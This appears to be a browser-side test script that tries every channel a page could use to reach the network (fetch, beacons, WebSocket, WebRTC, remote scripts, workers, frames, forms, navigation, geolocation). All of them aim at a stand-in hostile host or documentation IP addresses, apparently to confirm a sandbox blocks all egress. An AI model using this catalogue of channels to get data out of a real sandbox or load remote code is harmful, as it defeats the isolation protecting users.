// What a page could try, all at once: each attempt names a host of its own, and none may leave the computer.
// Run inside a page; gives how each attempt ended, as far as the page itself can tell.
;(async () => {
  const outcomes = []
  const host = (name) => `${name}.hostile.example.org`
  const attempt = async (name, make) => {
    try {
      const made = await Promise.race([
        make(host(name)),
        new Promise((done) => setTimeout(done, 400, 'no answer')),
      ])
      outcomes.push([name, String(made ?? 'tried').slice(0, 60)])
    } catch (reason) {
      outcomes.push([name, `refused: ${String(reason && reason.message).slice(0, 60)}`])
    }
  }
  const add = (tag, attributes) => {
    const element = document.createElement(tag)
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
    document.head.append(element)
    return element
  }
  const loaded = (element) =>
    new Promise((done) => {
      element.onload = () => done('loaded')
      element.onerror = () => done('error')
    })
  const peer = async (urls, extra = {}) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls, ...extra }] })
    connection.createDataChannel('one')
    await connection.setLocalDescription(await connection.createOffer())
    await new Promise((done) => setTimeout(done, 300))
  }

  for (const scheme of ['http', 'https']) {
    await attempt(
      `link-dns-prefetch-${scheme}`,
      (to) => void add('link', { rel: 'dns-prefetch', href: `${scheme}://${to}/` }),
    )
    await attempt(
      `link-preconnect-${scheme}`,
      (to) => void add('link', { rel: 'preconnect', href: `${scheme}://${to}/` }),
    )
    await attempt(
      `link-preconnect-cors-${scheme}`,
      (to) => void add('link', { rel: 'preconnect', href: `${scheme}://${to}/`, crossorigin: '' }),
    )
    await attempt(
      `link-prefetch-${scheme}`,
      (to) => void add('link', { rel: 'prefetch', href: `${scheme}://${to}/` }),
    )
    await attempt(
      `link-preload-${scheme}`,
      (to) => void add('link', { rel: 'preload', as: 'image', href: `${scheme}://${to}/` }),
    )
    await attempt(`link-stylesheet-${scheme}`, (to) =>
      loaded(add('link', { rel: 'stylesheet', href: `${scheme}://${to}/` })),
    )
    await attempt(`fetch-${scheme}`, (to) => fetch(`${scheme}://${to}/`))
    await attempt(`fetch-no-cors-${scheme}`, (to) => fetch(`${scheme}://${to}/`, { mode: 'no-cors' }))
    await attempt(`fetch-keepalive-${scheme}`, (to) =>
      fetch(`${scheme}://${to}/`, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' }),
    )
    await attempt(`image-${scheme}`, (to) => {
      const image = new Image()
      image.src = `${scheme}://${to}/a.png`
      return loaded(image)
    })
  }
  await attempt(
    'link-modulepreload',
    (to) => void add('link', { rel: 'modulepreload', href: `http://${to}/a.js` }),
  )
  await attempt('link-icon', (to) => void add('link', { rel: 'icon', href: `http://${to}/a.ico` }))
  await attempt('link-manifest', (to) => void add('link', { rel: 'manifest', href: `http://${to}/a.json` }))
  await attempt(
    'xhr',
    (to) =>
      new Promise((done) => {
        const request = new XMLHttpRequest()
        request.onloadend = () => done(`status ${request.status}`)
        request.open('GET', `http://${to}/`)
        request.send()
      }),
  )
  await attempt(
    'websocket',
    (to) =>
      new Promise((done) => {
        const socket = new WebSocket(`ws://${to}/`)
        socket.onerror = () => done('error')
        socket.onopen = () => done('open')
      }),
  )
  await attempt(
    'websocket-tls',
    (to) =>
      new Promise((done) => {
        const socket = new WebSocket(`wss://${to}/`)
        socket.onerror = () => done('error')
        socket.onopen = () => done('open')
      }),
  )
  await attempt(
    'eventsource',
    (to) =>
      new Promise((done) => {
        const source = new EventSource(`http://${to}/`)
        source.onerror = () => {
          source.close()
          done('error')
        }
      }),
  )
  await attempt('webtransport', (to) => new WebTransport(`https://${to}:443/`).ready)
  await attempt('beacon', (to) => navigator.sendBeacon(`http://${to}/`, 'x'))
  await attempt('fetch-literal-v4', () => fetch('http://198.51.100.1/'))
  await attempt('fetch-literal-v6', () => fetch('http://[2001:db8:1::1]/'))
  await attempt('image-literal-v4', () => {
    const image = new Image()
    image.src = 'http://198.51.100.2/a.png'
    return loaded(image)
  })
  await attempt(
    'websocket-literal',
    () =>
      new Promise((done) => {
        const socket = new WebSocket('ws://198.51.100.3/')
        socket.onerror = () => done('error')
      }),
  )
  await attempt('stun-name', (to) => peer(`stun:${to}:3478`))
  await attempt('stun-literal', () => peer('stun:198.51.100.4:3478'))
  await attempt('stun-literal-v6', () => peer('stun:[2001:db8:1::2]:3478'))
  await attempt('turn-udp', () =>
    peer('turn:198.51.100.5:3478?transport=udp', { username: 'a', credential: 'b' }),
  )
  await attempt('turn-tcp', (to) => peer(`turn:${to}:3478?transport=tcp`, { username: 'a', credential: 'b' }))
  await attempt('audio', (to) => new Audio(`http://${to}/a.ogg`).play())
  await attempt('video', (to) => {
    const video = document.createElement('video')
    video.src = `http://${to}/a.webm`
    video.poster = `http://poster.${to}/a.png`
    document.body.append(video)
    return video.play()
  })
  await attempt('track', (to) => {
    const track = add('track', { src: `http://${to}/a.vtt` })
    return track.readyState
  })
  await attempt('script', (to) => {
    const script = document.createElement('script')
    script.src = `http://${to}/a.js`
    document.head.append(script)
    return loaded(script)
  })
  await attempt('import', (to) => import(`http://${to}/a.js`))
  await attempt('worker', (to) => new Worker(`http://${to}/a.js`))
  await attempt('worker-blob', (to) => new Worker(URL.createObjectURL(new Blob([`fetch('http://${to}/')`]))))
  await attempt('shared-worker', (to) => new SharedWorker(`http://${to}/a.js`))
  await attempt('service-worker', (to) => navigator.serviceWorker.register(`http://${to}/a.js`))
  await attempt('style-import', (to) => {
    const style = document.createElement('style')
    style.textContent = `@import url('http://${to}/a.css');`
    document.head.append(style)
  })
  await attempt('style-background', (to) => {
    document.body.style.backgroundImage = `url('http://${to}/a.png')`
  })
  await attempt('style-cursor', (to) => {
    document.body.style.cursor = `url('http://${to}/a.cur'), auto`
  })
  await attempt('font', (to) => new FontFace('hostile', `url('http://${to}/a.woff2')`).load())
  await attempt('svg-image', (to) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', `http://${to}/a.png`)
    svg.append(image)
    document.body.append(svg)
  })
  await attempt('iframe', (to) => {
    const frame = document.createElement('iframe')
    frame.src = `http://${to}/`
    document.body.append(frame)
  })
  await attempt('iframe-srcdoc', (to) => {
    const frame = document.createElement('iframe')
    frame.srcdoc = `<img src="http://${to}/a.png">`
    document.body.append(frame)
  })
  await attempt('object', (to) => {
    const thing = document.createElement('object')
    thing.data = `http://${to}/`
    document.body.append(thing)
  })
  await attempt('embed', (to) => {
    const thing = document.createElement('embed')
    thing.src = `http://${to}/`
    document.body.append(thing)
  })
  await attempt(
    'meta-refresh',
    (to) => void add('meta', { 'http-equiv': 'refresh', content: `0;url=http://${to}/` }),
  )
  await attempt('base', (to) => {
    const base = add('base', { href: `http://${to}/` })
    const image = new Image()
    image.src = 'relative.png'
    return loaded(image).finally(() => base.remove())
  })
  await attempt('ping', (to) => {
    const link = document.createElement('a')
    link.href = '#here'
    link.ping = `http://${to}/`
    document.body.append(link)
    link.click()
  })
  await attempt('download', (to) => {
    const link = document.createElement('a')
    link.href = `http://${to}/`
    link.download = 'a'
    document.body.append(link)
    link.click()
  })
  await attempt('window-open', (to) => String(window.open(`http://${to}/`)))
  await attempt('window-open-noopener', (to) => String(window.open(`http://${to}/`, '_blank', 'noopener')))
  await attempt('form-get', (to) => {
    const form = document.createElement('form')
    form.action = `http://${to}/`
    document.body.append(form)
    form.submit()
  })
  await attempt('form-post-blank', (to) => {
    const form = document.createElement('form')
    form.action = `http://${to}/`
    form.method = 'post'
    form.target = '_blank'
    document.body.append(form)
    form.submit()
  })
  await attempt('link-click', (to) => {
    const link = document.createElement('a')
    link.href = `http://${to}/`
    document.body.append(link)
    link.click()
  })
  await attempt('location', (to) => {
    location.href = `http://${to}/`
  })
  await attempt('external-scheme', (to) => {
    location.href = `mailto:someone@${to}`
  })
  await attempt(
    'geolocation',
    () =>
      new Promise((done) =>
        navigator.geolocation.getCurrentPosition(
          () => done('given'),
          (no) => done(no.message),
        ),
      ),
  )
  await new Promise((done) => setTimeout(done, 1500))
  return outcomes
})()
